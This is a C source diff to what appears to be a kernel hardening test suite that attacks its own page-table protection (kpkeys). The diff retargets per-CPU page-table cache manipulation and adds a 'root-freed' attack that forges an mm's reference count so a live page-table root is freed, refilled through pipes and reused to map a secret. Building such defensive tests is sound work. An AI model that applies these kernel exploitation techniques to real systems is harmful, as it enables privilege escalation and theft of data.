@@ -9,6 +9,7 @@
  */
 #include "attack.h"
 
+#include <poll.h>
 #include <sched.h>
 
 #define MAX_TABLES	1600
@@ -64,31 +65,48 @@ static unsigned int nr_cached(u64 cache)
 	return kernel_read(cache + (nr & ~7ULL)) >> (nr & 4 ? 32 : 0);
 }
 
-/* The pool's cache of CPU 0: its slot number @n from the top. */
-static u64 cache_slot(unsigned int n)
+/* The pool's caches of this CPU: of pages that are free for @level only; 0: for any. */
+static u64 cache_of(unsigned int level)
 {
-	u64 cache = per_cpu(lookup("kpkeys_cache"), 0);
+	return per_cpu(lookup("kpkeys_cache"), sched_getcpu()) +
+	       level * lookup("sizeof kpkeys_cache");
+}
+
+static u64 cache_slot(u64 cache, unsigned int n)
+{
+	return cache + lookup("kpkeys_cache.pages") + 8 * n;
+}
+
+/* A free page that is in a cache of this CPU. */
+static u64 free_page(void)
+{
+	u64 cache = cache_of(0);
 	unsigned int tables = 0;
 
 	/* An empty one is filled when the next table is needed. */
-	while (nr_cached(cache) <= n) {
+	while (!nr_cached(cache)) {
 		if (++tables > MAX_TABLES)
-			die("the cache has %u pages only", nr_cached(cache));
+			die("the cache has no pages");
 		*(volatile char *)table_range(200 + tables) = 1;
 	}
-	return cache + lookup("kpkeys_cache.pages") + 8 * (nr_cached(cache) - 1 - n);
+	return kernel_read(cache_slot(cache, nr_cached(cache) - 1));
 }
 
-/* Makes @page the next one that becomes a page table on CPU 0. */
-static void hand_out_next(u64 page)
+/* Makes @page the next one that becomes a page table of @level on this CPU. */
+static void hand_out_next(u64 page, unsigned int level)
 {
 	u64 pages, count, entry = page + lookup("page.lru");
 
 	if (protected) {
-		kernel_write(cache_slot(0), page);
+		u64 cache = cache_of(level);
+		unsigned int nr = nr_cached(cache);
+
+		if (cache_slot(cache, nr) < cache + lookup("sizeof kpkeys_cache"))
+			kernel_write32(cache + lookup("kpkeys_cache.nr"), ++nr);
+		kernel_write(cache_slot(cache, nr - 1), page);
 		return;
 	}
-	pages = per_cpu(kernel_read(zone() + lookup("zone.per_cpu_pageset")), 0);
+	pages = per_cpu(kernel_read(zone() + lookup("zone.per_cpu_pageset")), sched_getcpu());
 	insert(entry, pages + lookup("per_cpu_pages.lists"));
 	count = pages + lookup("per_cpu_pages.count");
 	kernel_write32(count, (kernel_read(count & ~7ULL) >> (count & 4 ? 32 : 0)) + 1);
@@ -197,7 +215,7 @@ static int handed_out_again(void)
 	run_on_cpu(0);
 	flush();
 	save_pages(&saved, page, 1);
-	hand_out_next(page);
+	hand_out_next(page, 1);
 	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, old);
 	restore_pages(&saved);
 	return DONE;
@@ -211,14 +229,18 @@ static int handed_out_twice(void)
 	u64 slot;
 
 	run_on_cpu(0);
-	if (protected)
-		kernel_write(cache_slot(1), kernel_read(cache_slot(0)));
+	if (protected) {
+		u64 page = free_page();
+
+		/* The first table that @range needs is one of level 2. */
+		hand_out_next(page, 2);
+		hand_out_next(page, 1);
+	}
 	*(volatile char *)other = 1;
 	slot = table_of(other, 1);
 	save_pages(&saved, struct_page(slot), 1);
 	if (!protected)
-		hand_out_next(struct_page(slot));
-	/* The first table that this needs is one of level 2. */
+		hand_out_next(struct_page(slot), 2);
 	*(volatile char *)range = 1;
 	if (entry_slot(leak.pgd, range, 2) != slot)
 		return GAINED_NOTHING;
@@ -279,7 +301,7 @@ static int ordinary_page(void)
 	save_pages(&saved, page, 1);
 	if (protected) {
 		u64 mapping = lookup("page.mapping");
-		u64 real = kernel_read(kernel_read(cache_slot(0)) + mapping);
+		u64 real = kernel_read(free_page() + mapping);
 
 		chunk[lookup("kpkeys_chunk.pool") / 8] =
 			kernel_read(real + lookup("kpkeys_chunk.pool"));
@@ -290,7 +312,7 @@ static int ordinary_page(void)
 	}
 	/* Starting a process takes memory, too. */
 	pid = start(use_ordinary_page, &m);
-	hand_out_next(page);
+	hand_out_next(page, 1);
 	*(volatile u64 *)GO_ON = 1;
 	ended_well(pid);
 	restore_pages(&saved);
@@ -490,6 +512,141 @@ static int released(void)
 	return stay(steal_by_write(own_page_slot()));
 }
 
+/*
+ * A root that is freed while a CPU has it loaded
+ */
+
+/* words[]: the process that uses it */
+#define USER_MM		(shared->words[1])
+#define USER_ROOT	(shared->words[2])
+#define USER_STATE	((volatile u64 *)&shared->words[3])
+enum { STARTING, READY, READING, LEAVING, GONE };
+
+static void copy_text(const volatile char *from)
+{
+	volatile char *to = shared->text;
+	unsigned int i;
+
+	for (i = 0; i < sizeof(shared->text) - 1; i++)
+		to[i] = from[i];
+}
+
+/*
+ * On CPU 0. Once its root is freed, it needs what is in its TLB only, and it never exits:
+ * the kernel takes its mm for one that is gone.
+ */
+static void use_root(const char *target)
+{
+	struct kpkeys_attack_leak l = {};
+
+	setpgid(0, 0);
+	run_on_cpu(0);
+	get_leak(&l, NULL);
+	USER_MM = l.mm;
+	USER_ROOT = l.pgd;
+	copy_text(shared->why);
+	poll(NULL, 0, 1);
+	*USER_STATE = READY;
+	while (*USER_STATE == READY)
+		;
+	if (*USER_STATE == READING)
+		copy_text(target);
+	*USER_STATE = GONE;
+	poll(NULL, 0, -1);
+}
+
+/* What is written to a pipe is in pages that the kernel has not cleared before. */
+static bool fill_free_page(u64 addr, const u64 *words, unsigned int differs)
+{
+	int pipes[2], i, j;
+
+	for (i = 0; i < 32; i++) {
+		if (pipe(pipes))
+			die("no pipe");
+		for (j = 0; j < 16; j++) {
+			if (write(pipes[1], words, PAGE_SIZE) != (ssize_t)PAGE_SIZE)
+				die("cannot write to a pipe");
+			if (kernel_read(addr + 8 * differs) == words[differs])
+				return true;
+		}
+	}
+	return false;
+}
+
+struct freed_root {
+	char *target;
+	char *range;	/* what needs a new table */
+	bool used;
+};
+
+/* It becomes a table of the last level. What that maps is a table for who has it as a root. */
+static int use_root_as_table(void *arg)
+{
+	struct freed_root *r = arg;
+	u64 *table = (u64 *)(r->range + entry_index(r->target, leak.levels) * PAGE_SIZE);
+
+	hand_out_next(struct_page(USER_ROOT), 1);
+	table[0] = 0;
+	r->used = kernel_address(kernel_read(entry_slot(leak.pgd, table, 2))) == USER_ROOT;
+	map_secret(table, r->target);
+	return 0;
+}
+
+/*
+ * The count of those who use an mm: it is 1, says the attacker, when a reference goes
+ * that is not the last one. So the root is freed, and used again.
+ */
+static int root_freed(void)
+{
+	struct freed_root r = { .target = free_address(5), .range = two_tables(0) + PMD_SIZE };
+	unsigned int index = entry_index(r.target, leak.levels), i;
+	u64 *table = map_at(NULL, PAGE_SIZE, MAP_SHARED), count, *root = malloc(PAGE_SIZE);
+	char path[32];
+	pid_t pid;
+	int fd;
+
+	if (on_arch("um"))
+		return not_possible("no CPU walks page tables");
+	if (!root)
+		die("no memory");
+	run_on_cpu(1);
+	pid = fork();
+	if (!pid) {
+		use_root(r.target);
+		_exit(1);
+	}
+	wait_for(USER_STATE, READY);
+
+	memset(table, 0, PAGE_SIZE);
+	map_secret(table, r.target);
+	for (i = 0; i < 1U << entry_bits(); i++)
+		root[i] = kernel_read(USER_ROOT + 8 * i);
+	root[index] = link_to(address_of(table), leak.levels);
+
+	count = USER_MM + lookup("mm_struct.mm_count");
+	sprintf(path, "/proc/%d/mem", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		die("%s: %s", path, strerror(errno));
+	kernel_write32(count, 1);
+	close(fd);
+	/* It must not be freed once more. */
+	kernel_write32(count, 1000);
+
+	r.used = fill_free_page(USER_ROOT, root, index);
+	if (!r.used && on_arch("arm64"))
+		ended_well(start(use_root_as_table, &r));
+	*USER_STATE = r.used ? READING : LEAVING;
+	wait_for(USER_STATE, GONE);
+	/* From now on, no CPU has that root. */
+	run_on_cpu(0);
+	switch_away();
+	/* On x86, a root maps the kernel, too. */
+	if (!r.used && on_arch("x86_64"))
+		ended_well(start(use_root_as_table, &r));
+	return steal_from(shared->text);
+}
+
 const struct attack pool[] = {
 	{ "pool-slot-twice", "a slot of the cache: a free page that is in it already",
 	  handed_out_twice },
@@ -505,6 +662,8 @@ const struct attack pool[] = {
 
 /* Last, because live page tables are freed if these win. */
 const struct attack releases[] = {
+	{ "root-freed", "the count of an mm's users: its root is freed while it is used",
+	  root_freed },
 	{ "pool-release", "a chunk's number of free pages", released },
 	{ "pool-untag", "the list of tables to be freed: a live one", untagged },
 	{ }
